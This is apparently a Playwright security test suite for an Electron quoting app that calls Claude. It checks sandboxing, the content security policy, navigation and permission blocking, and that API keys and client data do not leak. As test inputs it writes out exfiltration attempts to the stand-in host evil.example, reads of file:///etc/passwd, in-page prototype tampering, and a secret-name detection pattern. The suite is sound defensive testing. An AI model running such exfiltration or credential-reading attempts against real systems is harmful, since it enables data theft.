import { existsSync, readdirSync, readFileSync, readlinkSync, rmSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { type ElectronApplication, expect, type Page, test } from 'playwright/test';
import { CALL_NAMES } from '../../shared/contract/names';
import { filesOf, foundIn } from '../folder-scan';
import { BOOKKEEPERS, startClaude } from '../servers/claude';
import { call, newFolder, openApp, settled, submit } from './app';
import { sandboxIsOn } from './launch';

let app: ElectronApplication;
let page: Page;

test.beforeAll(async () => {
  ({ app, page } = await openApp(newFolder(), {
    ANTHROPIC_API_KEY: 'sk-ant-ambient',
    ANTHROPIC_BASE_URL: 'https://evil.example',
    ANTHROPIC_LOG: 'debug',
    HTTPS_PROXY: 'http://ana:secret@127.0.0.1:9',
  }));
});
test.afterAll(() => app.close());

test('the window has the safe preferences, and the sandbox wherever the kernel has one', async () => {
  const { preferences, noSandbox } = await app.evaluate(({ app: electronApp, BrowserWindow }) => {
    // Electron's types leave it out; it gives what the window really has.
    const [window] = BrowserWindow.getAllWindows();
    const read: unknown = window && Reflect.get(window.webContents, 'getLastWebPreferences');
    return {
      preferences: typeof read === 'function' ? read.call(window?.webContents) : null,
      noSandbox: electronApp.commandLine.hasSwitch('no-sandbox'),
    };
  });
  expect(preferences).toMatchObject({
    contextIsolation: true,
    sandbox: true,
    nodeIntegration: false,
    nodeIntegrationInSubFrames: false,
    webviewTag: false,
    webSecurity: true,
    allowRunningInsecureContent: false,
    experimentalFeatures: false,
    enableBlinkFeatures: '',
  });
  expect(noSandbox).toBe(!sandboxIsOn());
});

test('the page gets the contract and nothing else', async () => {
  const walked = await page.evaluate(() => {
    const seen: string[] = [];
    const open: [string, unknown][] = [['app', window.app]];
    for (const [path, value] of open) {
      if (typeof value === 'object' && value !== null) {
        if (!Object.isFrozen(value)) seen.push(`${path} is not frozen`);
        for (const key of Reflect.ownKeys(value))
          open.push([`${path}.${String(key)}`, Reflect.get(value, key)]);
      } else seen.push(`${path}: ${typeof value}`);
    }
    const own = Object.getOwnPropertyDescriptor(window, 'app');
    return { seen: seen.toSorted(), writable: own?.writable, configurable: own?.configurable };
  });
  expect(walked).toEqual({
    seen: [...CALL_NAMES.map((name) => `app.call.${name}: function`), 'app.on: function'].toSorted(),
    writable: false,
    configurable: false,
  });
  const refused = await page.evaluate(async () => {
    const send: unknown = Reflect.get(window.app.call, 'app.status');
    // A first argument is the input, never a channel or a name.
    return typeof send === 'function' ? await send('settings.get', {}) : null;
  });
  expect(refused).toMatchObject({ ok: false, error: { code: 'invalid' } });
  const preload = readFileSync(join('out', 'preload', 'index.cjs'), 'utf8');
  const required = [...preload.matchAll(/\brequire\(([^)]*)\)/g)].map(([, name = '']) => name.slice(1, -1));
  expect([...new Set(required)]).toEqual(['electron']);
});

test('neither the page nor a worker has Node', async () => {
  const names = ['require', 'process', 'module', 'global', 'Buffer', 'ipcRenderer', 'electron'];
  const found = await page.evaluate((all) => all.filter((name) => name in globalThis), names);
  expect(found).toEqual([]);
  // A script of another origin or a blob is no worker here, so the worker is one of the window's own files.
  const made = await page.evaluate(async () => {
    const script = document.querySelector('script[src]')?.getAttribute('src') ?? '';
    try {
      const worker = new Worker(new URL(script, location.href), { type: 'module' });
      worker.terminate();
      return 'made';
    } catch (error) {
      return error instanceof Error ? error.name : 'refused';
    }
  });
  // Trusted types leave no way to start one at all.
  expect(made).toBe('TypeError');
});

test('a page that changes the language itself does not reach the preload script', async () => {
  const { status, stolen } = await page.evaluate(async () => {
    const stolen: unknown[] = [];
    const { push } = Array.prototype;
    const { apply } = Reflect;
    // oxlint-disable-next-line no-extend-native -- what an attacker in the page would do
    Array.prototype.push = function (...items: unknown[]) {
      stolen[stolen.length] = items;
      return apply(push, this, items);
    };
    Reflect.set(Function.prototype, 'call', () => stolen);
    Reflect.set(Object, 'freeze', (value: unknown) => value);
    try {
      const send: unknown = Reflect.get(window.app.call, 'app.status');
      const status: unknown = typeof send === 'function' ? await send({}) : null;
      return { status, stolen: stolen.flat().map((item) => typeof item) };
    } finally {
      // oxlint-disable-next-line no-extend-native -- put back
      Array.prototype.push = push;
    }
  });
  expect(status).toMatchObject({ ok: true, data: { engine: expect.any(String) } });
  expect(stolen).not.toContain('function');
  await page.reload();
  await expect(page.getByRole('navigation', { name: 'Main' })).toBeVisible();
});

test('the content policy lets no foreign script, style, frame or connection in', async () => {
  await app.evaluate(({ session }) => {
    const urls: string[] = [];
    Reflect.set(globalThis, 'sentRequests', urls);
    session.defaultSession.webRequest.onSendHeaders(({ url }) => {
      if (!url.startsWith('app://bundle/')) urls.push(url);
    });
  });
  const seen = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      violations.push(event.effectiveDirective);
    });
    const attempt = (work: () => void): string => {
      try {
        work();
        return 'done';
      } catch (error) {
        return error instanceof Error ? error.name : 'thrown';
      }
    };
    const add = (tag: string, set: (element: HTMLElement) => void): HTMLElement => {
      const element = document.createElement(tag);
      set(element);
      return document.body.appendChild(element);
    };
    const attempts = {
      inline: attempt(() => add('script', (element) => (element.textContent = 'window.__ran = 1'))),
      remote: attempt(() =>
        add('script', (element) => Reflect.set(element, 'src', 'https://evil.example/x.js')),
      ),
      markup: attempt(() => (document.body.innerHTML += '<b>x</b>')),
      handler: attempt(() =>
        add('div', (element) => element.setAttribute('onclick', 'window.__ran = 1')).click(),
      ),
      write: attempt(() => document.write('<p>x</p>')),
    };
    // Later, as a page's own script: within a test's call the debugger allows it.
    const evaluated = await new Promise<string>((resolve) => {
      setTimeout(() =>
        resolve(attempt(() => void Reflect.apply(Reflect.get(globalThis, 'eval'), null, ['1']))),
      );
    });
    add('style', (element) => (element.textContent = 'body { display: none !important }'));
    const frame = add('iframe', (element) => Reflect.set(element, 'src', 'https://evil.example/'));
    const image = add('img', (element) => Reflect.set(element, 'src', 'https://evil.example/beacon.png'));
    const webview = add('webview', (element) => element.setAttribute('src', 'https://evil.example/'));
    await Promise.all([
      new Promise((resolve) => frame.addEventListener('load', resolve)),
      new Promise((resolve) => image.addEventListener('error', resolve)),
    ]);
    const outcome = async (work: Promise<unknown>): Promise<string> =>
      work.then(
        () => 'done',
        () => 'refused',
      );
    navigator.sendBeacon('https://evil.example/', 'x');
    const connections = {
      https: await outcome(fetch('https://example.com')),
      http: await outcome(fetch('http://127.0.0.1:9/')),
      file: await outcome(fetch('file:///etc/passwd')),
      beyond: await outcome(
        fetch('app://print/x').then((reply) => (reply.ok ? reply : Promise.reject(reply))),
      ),
      socket: await new Promise<string>((resolve) => {
        try {
          const socket = new WebSocket('wss://evil.example/');
          socket.addEventListener('open', () => resolve('done'));
          socket.addEventListener('error', () => resolve('refused'));
        } catch {
          resolve('refused');
        }
      }),
    };
    const ran = Reflect.has(window, '__ran');
    return {
      attempts: { ...attempts, eval: evaluated },
      connections,
      ran,
      hidden: getComputedStyle(document.body).display === 'none',
      webview: webview instanceof HTMLUnknownElement || webview.constructor === HTMLElement,
      violations: [...new Set(violations)].toSorted(),
    };
  });
  expect(seen).toMatchObject({ ran: false, hidden: false, webview: true });
  expect(seen.attempts).toMatchObject({ inline: 'TypeError', remote: 'TypeError', markup: 'TypeError' });
  expect(seen.attempts).toMatchObject({ handler: 'TypeError', eval: 'EvalError', write: 'TypeError' });
  expect([...new Set(Object.values(seen.connections))]).toEqual(['refused']);
  const sent: unknown = await app.evaluate(() => Reflect.get(globalThis, 'sentRequests'));
  expect(sent).toEqual([]);
  for (const directive of ['connect-src', 'frame-src', 'img-src', 'style-src-elem'])
    expect(seen.violations).toContain(directive);
  await page.reload();
});

test('no page leaves, opens a window or starts a download', async () => {
  const url = page.url();
  const opened = await app.evaluate(({ shell }) => {
    const links: string[] = [];
    Reflect.set(globalThis, 'openedLinks', links);
    shell.openExternal = async (link) => void links.push(link);
    return links.length;
  });
  expect(opened).toBe(0);
  const results = await page.evaluate(() => {
    const click = (set: (link: HTMLAnchorElement) => void): void => {
      const link = document.createElement('a');
      set(link);
      link.textContent = 'x';
      document.body.append(link);
      link.click();
      link.remove();
    };
    const windows = [
      'https://example.com',
      'about:blank',
      'app://bundle/index.html',
      'file:///etc/passwd',
    ].map((link) => window.open(link));
    click((link) => Object.assign(link, { href: 'https://example.com', target: '_top' }));
    click((link) => Object.assign(link, { href: 'https://example.com', target: '_blank' }));
    click((link) => Object.assign(link, { href: 'file:///etc/passwd' }));
    click((link) => Object.assign(link, { href: 'shorequote://quote/1' }));
    click((link) => Object.assign(link, { href: 'data:text/plain,x', download: 'x.txt' }));
    click((link) => Object.assign(link, { href: URL.createObjectURL(new Blob(['x'])), download: 'x.exe' }));
    for (const go of ['https://example.com', 'data:text/html,x', 'file:///etc/passwd', 'app://print/x'])
      location.href = go;
    return windows.map((one) => one === null);
  });
  expect(results).toEqual([true, true, true, true]);
  // A refused navigation leaves no trace to wait for: a call that is answered after it shows the page still there.
  await call(page, 'app.status', {});
  expect(page.url()).toBe(url);
  expect(app.windows()).toHaveLength(1);
  const after: unknown = await app.evaluate(() => Reflect.get(globalThis, 'openedLinks'));
  expect(after).toEqual([]);
});

test('a dropped link or file moves nothing', async () => {
  const url = page.url();
  const debug = await page.context().newCDPSession(page);
  const link = { mimeType: 'text/uri-list', data: 'https://example.com/' };
  for (const data of [
    { items: [link], dragOperationsMask: 1 },
    { items: [], files: ['/etc/hosts'], dragOperationsMask: 1 },
  ])
    for (const type of ['dragEnter', 'dragOver', 'drop'] as const)
      await debug.send('Input.dispatchDragEvent', { type, x: 300, y: 300, data });
  await call(page, 'app.status', {});
  expect(page.url()).toBe(url);
  expect(app.windows()).toHaveLength(1);
});

test('every session refuses rights, devices and the screen', async () => {
  const states = await page.evaluate(async () => {
    const ended = async (work: () => Promise<unknown>): Promise<string> => {
      try {
        return String(await work());
      } catch (error) {
        return error instanceof Error ? error.name : 'thrown';
      }
    };
    const query = (name: string) => async (): Promise<string> => {
      // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- some names are Chromium's own
      return (await navigator.permissions.query({ name: name as PermissionName })).state;
    };
    return {
      notifications: await ended(() => Notification.requestPermission()),
      devices: await ended(() => navigator.mediaDevices.getUserMedia({ video: true, audio: true })),
      camera: await ended(query('camera')),
      microphone: await ended(query('microphone')),
      screen: await ended(() => navigator.mediaDevices.getDisplayMedia()),
      place: await ended(query('geolocation')),
      notified: await ended(query('notifications')),
      clipboard: await ended(query('clipboard-read')),
      midi: await ended(query('midi')),
    };
  });
  expect(states).toEqual({
    notifications: 'denied',
    // A machine without a camera says so before it asks.
    devices: expect.stringMatching(/^(NotAllowedError|NotFoundError)$/),
    camera: 'denied',
    microphone: 'denied',
    screen: expect.stringMatching(/^(NotAllowedError|InvalidStateError|AbortError|NotSupportedError)$/),
    place: 'denied',
    notified: 'denied',
    clipboard: 'denied',
    midi: 'denied',
  });
  // A session that nobody thought of is as closed as the window's.
  const other = await app.evaluate(async ({ BrowserWindow, session }) => {
    const window = new BrowserWindow({
      show: false,
      webPreferences: { session: session.fromPartition('other') },
    });
    try {
      await window.loadURL('data:text/html,x');
      const load = await window.loadURL('http://127.0.0.1:9/').then(
        () => 'loaded',
        (error: unknown) => String(error),
      );
      const asked: unknown = await window.webContents.executeJavaScript(
        "navigator.permissions.query({ name: 'notifications' }).then(({ state }) => state)",
      );
      return { load, asked };
    } finally {
      window.destroy();
    }
  });
  expect(other.load).toContain('ERR_BLOCKED_BY_CLIENT');
  expect(other.asked).toBe('denied');
});

test('the engine has a built environment and no open port', async () => {
  test.skip(process.platform !== 'linux', 'reads /proc');
  const pid = await app.evaluate(
    ({ app: electronApp }) =>
      electronApp.getAppMetrics().find(({ name }) => name === 'ShoreQuote engine')?.pid,
  );
  if (pid === undefined) throw new Error('no engine process');
  const names = readFileSync(`/proc/${pid}/environ`, 'utf8')
    .split('\0')
    .filter(Boolean)
    .map((entry) => entry.slice(0, entry.indexOf('=')));
  expect(names.length).toBeGreaterThan(0);
  expect(names.filter((name) => /ANTHROPIC|NODE_|PROXY|KEY|TOKEN|SECRET|SHOREQUOTE/i.test(name))).toEqual([]);
  expect(readFileSync(`/proc/${pid}/cmdline`, 'utf8')).not.toMatch(/sk-ant|--inspect/);

  const sockets = readdirSync(`/proc/${pid}/fd`).flatMap((fd) => {
    try {
      return /^socket:\[(\d+)\]$/.exec(readlinkSync(`/proc/${pid}/fd/${fd}`))?.[1] ?? [];
    } catch (error) {
      // Closed since the folder was listed.
      if (error instanceof Error && 'code' in error && error.code === 'ENOENT') return [];
      throw error;
    }
  });
  const listening = ['tcp', 'tcp6'].flatMap((kind) =>
    readFileSync(`/proc/${pid}/net/${kind}`, 'utf8')
      .split('\n')
      .map((row) => row.trim().split(/\s+/))
      .filter((columns) => columns[3] === '0A')
      .map((columns) => columns[9] ?? ''),
  );
  expect(listening.filter((inode) => sockets.includes(inode))).toEqual([]);
});

test('the key never comes back to the page', async () => {
  const { app, page } = await openApp(newFolder());
  const key = 'sk-ant-api03-canary-in-the-page-wxyz';
  await call(page, 'key.set', { key });
  await page.getByRole('button', { name: 'Settings' }).click();
  await expect(page.getByTestId('key-last4')).toHaveText('•••• wxyz');
  const settings = await call(page, 'settings.get', {});
  expect(JSON.stringify(settings)).not.toContain(key);
  const html = await page.evaluate(() => document.documentElement.innerHTML);
  expect(html).not.toContain(key);
  expect(html).not.toContain(Buffer.from(key).toString('base64'));
  expect(await call(page, 'key.remove', {})).toMatchObject({ state: 'none', last4: null });
  await app.close();
});

test('a whole run leaves the client’s words in the data file alone, and the key nowhere', async () => {
  const key = 'sk-ant-api03-CanaryKeyOfTheRun5t6y';
  const words = ['Canaryhaven Holdings', 'Canaryquest', 'canary.person@canarymail.example'];
  const [client = ''] = words;
  const text = `2 senior bookkeepers, hybrid, AUD. ${words.join(', ')}`;
  const claude = await startClaude();
  claude.script(
    { kind: 'answer', json: BOOKKEEPERS },
    { kind: 'status', status: 401, message: `authentication_error ${client}` },
    { kind: 'status', status: 401 },
  );
  const folder = newFolder();
  const { app, page } = await openApp(folder, { SHOREQUOTE_CLAUDE_URL: claude.url });
  const replies: unknown[] = [];
  await call(page, 'key.set', { key });
  for (const more of ['', ' again']) {
    const { quoteId } = await submit(page, text + more, { client, fresh: true });
    replies.push(await settled(page, quoteId));
  }
  const test = await call(page, 'key.test', { submitKey: crypto.randomUUID() });
  await expect
    .poll(async () => (await call(page, 'jobs.get', { jobId: test.jobId })).status)
    .toMatch(/completed|failed/);
  replies.push(await call(page, 'jobs.get', { jobId: test.jobId }), await call(page, 'app.status', {}));
  const pdf = join(folder, 'quote.pdf');
  await app.evaluate(({ dialog }, filePath) => {
    dialog.showSaveDialog = () => Promise.resolve({ canceled: false, filePath });
  }, pdf);
  await page.getByRole('navigation', { name: 'Main' }).getByText('Quotes').click();
  await page.getByRole('row').filter({ hasText: 'Q-1001' }).click();
  await page.getByRole('button', { name: /Export PDF/ }).click();
  await expect.poll(() => existsSync(pdf)).toBe(true);
  // Refused calls are logged by the main process: names and codes only.
  for (const input of [{ quoteId: client }, { [client]: key }]) {
    const reply = await page.evaluate(async (wrong) => {
      const get: unknown = Reflect.get(window.app.call, 'quotes.get');
      return typeof get === 'function' ? await get(wrong) : null;
    }, input);
    replies.push({ refused: reply !== null });
  }
  await app.close();
  await claude.close();
  expect(claude.unexpected).toEqual([]);
  expect(claude.received.map(({ authorization }) => authorization)).toEqual(Array(3).fill(`Bearer ${key}`));

  rmSync(pdf);
  const files = filesOf(folder);
  expect(files).toContain(join('logs', 'engine.log'));
  expect(files).toContain(join('logs', 'main.log'));
  expect(files.some((file) => file.startsWith('chromium'))).toBe(true);
  expect(foundIn(folder, [key, key.slice(13), 'sk-ant'])).toEqual([]);
  const others = files.filter((file) => !file.startsWith('shorequote.db'));
  expect(foundIn(folder, [...words, 'Canary'], others)).toEqual([]);
  expect(foundIn(folder, [client], files).length).toBeGreaterThan(0);
  expect(JSON.stringify(replies)).not.toContain(key);
  expect(JSON.stringify(replies)).not.toContain(folder);
  // Others may neither read a file of ours nor look into a folder.
  const own = files.filter((file) => !file.startsWith('chromium') && !file.startsWith('engine.lock'));
  expect(own.filter((file) => statSync(join(folder, file)).mode & 0o077)).toEqual([]);
  for (const name of ['logs', 'chromium']) expect(statSync(join(folder, name)).mode & 0o077).toBe(0);
});
